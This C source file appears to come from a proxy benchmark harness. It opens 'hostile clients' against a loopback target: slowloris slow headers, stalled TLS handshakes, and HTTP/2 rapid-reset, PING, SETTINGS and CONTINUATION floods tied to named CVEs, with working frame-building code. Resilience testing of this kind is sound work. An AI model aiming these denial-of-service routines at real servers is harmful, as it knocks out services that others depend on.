/* Hostile clients beside the traffic, which differ with what it speaks:
 *   HTTP/1.1   slow heads (slowloris): a request is begun and never ended, with a byte every ten seconds
 *   TLS        the same with handshakes: a ClientHello that never ends
 *   HTTP/2     every tenth of a second a hundred frames that cost a server more than their sender: rapid resets (CVE-2023-44487, each a request and
 *              its reset), PINGs (CVE-2019-9512), SETTINGS (CVE-2019-9515), or CONTINUATIONs of a head that never ends (VU#421644)
 *
 * They are no part of what is counted. One that the proxy has closed is opened again when its next turn comes, as an attacker would.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>

#include "load.h"

enum { MAX_SLOW = 16384, SLOW_SOURCES = 64, GROUP = 64, FRAMES = 100, MAX_BATCH = FRAMES * 40 };

static const char head[] = "GET /slow HTTP/1.1\r\nHost: bench.example\r\nUser-Agent: bench-peers/1\r\nX-Slow: ";

/* The beginning of a record of 512 bytes with a ClientHello of TLS 1.2 or later. */
static const uint8_t hello[] = { 22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3 };

static const uint8_t preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0";

static struct conn *slow[MAX_SLOW];
static uint32_t generations[MAX_SLOW];
static uint32_t next_stream[MAX_SLOW];
static int begun;                        /* that were connected since slow_start, and sent their opening or were closed before they could */
static int slow_count;
static struct traffic beside;
static uint64_t turn_every_ns, next_turn, turn_index;

static bool is_open(int at)
{
    return slow[at] != NULL && slow[at]->role == SLOW && slow[at]->generation == generations[at];
}

/* Writes a frame; what follows it. */
static uint8_t *put_frame(uint8_t *to, uint8_t type, uint8_t flags, uint32_t stream, const void *payload, size_t length)
{
    const uint8_t header[9] = { 0, 0, (uint8_t)length, type, flags, (uint8_t)(stream >> 24), (uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream };
    memcpy(to, header, sizeof header);
    memcpy(to + sizeof header, payload, length);
    return to + sizeof header + length;
}

/* A hundred of what the flood is of; of a head that never ends, its beginning first where it is not there yet. */
static bool send_flood(int at)
{
    static uint8_t batch[MAX_BATCH];
    static const uint8_t request[18] = "\x82\x86\x04\x04/1/0\x01\x08" "bench.ex";
    static const uint8_t endless[] = { 0, 1, 'x', 0x7f, 0x80, 0x80, 0x40 };      /* a field with a value of a million bytes */
    uint8_t *to = batch;
    if (beside.flood == OF_CONTINUATIONS && next_stream[at] == 1) {
        to = put_frame(to, 1, 1, 1, endless, sizeof endless);
        next_stream[at] += 2;
    }
    for (int i = 0; i < FRAMES; i++) {
        switch (beside.flood) {
        case OF_RESETS:
            to = put_frame(to, 1, 5, next_stream[at], request, sizeof request);
            to = put_frame(to, 3, 0, next_stream[at], "\0\0\0\x8", 4);
            next_stream[at] += 2;
            break;
        case OF_PINGS:
            to = put_frame(to, 6, 0, 0, "12345678", 8);
            break;
        case OF_SETTINGS:
            to = put_frame(to, 4, 0, 0, "\0\3\0\0\0\x64", 6);
            break;
        case OF_CONTINUATIONS:
            to = put_frame(to, 9, 0, 1, "x", 1);
            break;
        }
    }
    return send(slow[at]->fd, batch, (size_t)(to - batch), MSG_NOSIGNAL) == to - batch;
}

static bool send_opening(const struct conn *c)
{
    const void *opening = beside.tls ? (const void *)hello : beside.http2 ? (const void *)preface : (const void *)head;
    size_t length = beside.tls ? sizeof hello : beside.http2 ? sizeof preface - 1 : sizeof head - 1;
    return send(c->fd, opening, length, MSG_NOSIGNAL) == (ssize_t)length;
}

/* What one does at its turn: false where its connection is not what it was. */
static bool act(int at)
{
    if (beside.http2)
        return send_flood(at);
    send(slow[at]->fd, "x", 1, MSG_NOSIGNAL);
    return true;
}

static void slow_dial(int at)
{
    struct sockaddr_in source = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000201u + (uint32_t)at % SLOW_SOURCES) };
    struct sockaddr_in target = { .sin_family = AF_INET, .sin_port = htons(beside.port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    int on = 1, fd = tcp_socket();
    slow[at] = NULL;
    next_stream[at] = 1;
    if (fd < 0) {
        clients_tell_error("the slow clients ran out of descriptors: raise ulimit -n");
        return;
    }
    struct conn *c = conn_claim(fd, SLOW);
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
    errno = 0;
    if (bind(fd, (struct sockaddr *)&source, sizeof source) != 0
        || (connect(fd, (struct sockaddr *)&target, sizeof target) != 0 && errno != EINPROGRESS)) {
        clients_tell_error("a slow client could not connect");
        conn_close(c);
        return;
    }
    conn_watch(c, EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET);
    slow[at] = c;
    generations[at] = c->generation;
}

/* Opens them; when it returns true, all have begun. A proxy with a bound may have closed some of them by then. */
bool slow_start(const struct traffic *t)
{
    beside = *t;
    slow_count = begun = 0;
    next_turn = turn_index = 0;
    turn_every_ns = beside.http2 ? 100000000u : 10000000000u;
    uint64_t deadline = monotonic_ns() + 10000000000u;
    while (slow_count < t->slow && slow_count < MAX_SLOW) {
        for (int i = 0; i < GROUP && slow_count < t->slow && slow_count < MAX_SLOW; i++)
            slow_dial(slow_count++);
        while (begun < slow_count && monotonic_ns() < deadline && !clients_error())
            turn(10);
        if (begun < slow_count) {
            clients_tell_error("not every hostile client could begin");
            return false;
        }
    }
    return true;
}

/* Does what is due, and opens again what was closed. */
void slow_work(uint64_t at)
{
    if (slow_count == 0)
        return;
    if (next_turn == 0)
        next_turn = at;
    for (; next_turn <= at; next_turn += turn_every_ns / (uint64_t)slow_count) {
        int i = (int)(turn_index++ % (uint64_t)slow_count);
        if (!is_open(i))
            slow_dial(i);
        else if (slow[i]->up && !act(i))
            conn_close(slow[i]);
    }
}

void slow_event(struct conn *c, uint32_t events)
{
    static uint8_t ignored[65536];
    if (events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR) || ((events & EPOLLIN) && !beside.http2)) {
        int error = 0;
        socklen_t length = sizeof error;
        if (!c->up && getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &error, &length) == 0 && error != ECONNREFUSED)
            begun++;
        conn_close(c);
        return;
    }
    while ((events & EPOLLIN) && recv(c->fd, ignored, sizeof ignored, 0) > 0)
        ;
    if (!c->up && (events & EPOLLOUT)) {
        c->up = send_opening(c);
        if (c->up)
            begun++;
        else
            conn_close(c);
    }
}

void slow_close(void)
{
    for (int i = 0; i < slow_count; i++)
        if (is_open(i))
            conn_close(slow[i]);
    slow_count = 0;
}
